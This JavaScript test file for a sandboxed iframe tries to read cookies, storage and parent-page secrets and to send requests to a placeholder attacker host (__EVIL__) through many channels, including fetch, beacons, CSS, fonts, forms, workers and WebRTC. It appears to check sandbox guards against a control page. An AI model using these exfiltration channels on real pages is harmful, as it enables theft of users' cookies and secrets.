// Ways out of a frame. `interlock` reports what each came to; the control page has a stand-in for it and none of the
// guards, so that an attack that does not work at all is noticed.
const EVIL = "__EVIL__";
const STUN = "__STUN__";
const results = {};

async function attempt(name, work) {
  try {
    results[name] = `did ${String(await work()).slice(0, 60)}`;
  } catch (error) {
    results[name] = `refused ${error.name}`;
  }
}

const wait = (ms) => new Promise((done) => setTimeout(done, ms));
const hit = (name) => `${EVIL}/hit/${name}`;
function add(tag, properties, content) {
  const element = document.createElement(tag);
  Object.assign(element, properties);
  if (content) element.append(content);
  document.body.append(element);
  return element;
}

const READ = {
  cookie: () => document.cookie,
  local_storage: () => localStorage.getItem("secret"),
  session_storage: () => sessionStorage.length,
  indexed_db: () =>
    new Promise((done, failed) => {
      const asked = indexedDB.open("x");
      asked.onsuccess = () => done("open");
      asked.onerror = () => failed(asked.error);
    }),
  caches: () => caches.keys(),
  parent_dom: () => parent.document.body.innerHTML.length,
  top_address: () => top.location.href,
  page_objects: () => parent.harness.secret,
};

const SEND = {
  fetch: () => fetch(hit("fetch"), { mode: "no-cors" }),
  own_api: () => fetch("/api/v1/tags").then((answer) => answer.status),
  xhr: () =>
    new Promise((done, failed) => {
      const asked = new XMLHttpRequest();
      asked.open("GET", hit("xhr"));
      asked.onload = asked.onerror = () => done("sent");
      asked.onabort = failed;
      asked.send();
    }),
  websocket: () => new WebSocket(hit("websocket").replace("http", "ws")),
  event_source: () => new EventSource(hit("event_source")),
  beacon: () => navigator.sendBeacon(hit("beacon"), "x"),
  image: () => add("img", { src: hit("image") }),
  script: () => add("script", { src: hit("script") }),
  style_link: () => add("link", { rel: "stylesheet", href: hit("style_link") }),
  style_import: () => add("style", {}, `@import url(${hit("style_import")});`),
  style_image: () => add("style", {}, `body { background: url(${hit("style_image")}) }`),
  font: async () => {
    const face = new FontFace("evil", `url(${hit("font")})`);
    face.load().catch(() => {});
  },
  media: () => add("video", { src: hit("media"), preload: "auto" }),
  prefetch: () => add("link", { rel: "prefetch", href: hit("prefetch") }),
  object: () => add("object", { data: hit("object") }),
  frame: () => add("iframe", { src: hit("frame") }),
  frame_image: () => add("iframe", { srcdoc: `<img src="${hit("frame_image")}">` }),
  form: () => {
    const target = add("iframe", { name: "form_target" });
    const form = add("form", { action: hit("form"), method: "get", target: target.name });
    form.submit();
  },
  ping: () => {
    const link = add("a", { href: "#", ping: hit("ping") });
    link.click();
  },
  worker: () => {
    const code = `fetch("${hit("worker")}", { mode: "no-cors" })`;
    return new Worker(URL.createObjectURL(new Blob([code])));
  },
  module: () => import(hit("module")).catch((error) => Promise.reject(error)),
  inline_code: () => {
    add("script", {}, `new Image().src = "${hit("inline_code")}"`);
  },
  evaluated: () => new Function(`new Image().src = "${hit("evaluated")}"`)(),
  webrtc: async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: STUN }] });
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
  },
};

const LEAVE = {
  popup: () => {
    if (!window.open(hit("popup"))) throw new DOMException("no window", "NoPopup");
  },
  top_navigation: () => {
    top.location.href = hit("top_navigation");
  },
  top_link: () => add("a", { href: hit("top_link"), target: "_top" }).click(),
  dialog: () => {
    if (alert("x") === undefined) throw new DOMException("nothing was shown", "NoDialog");
  },
};

async function run(...groups) {
  for (const group of groups) {
    for (const [name, work] of Object.entries(group)) await attempt(name, work);
  }
  await wait(1500);
}
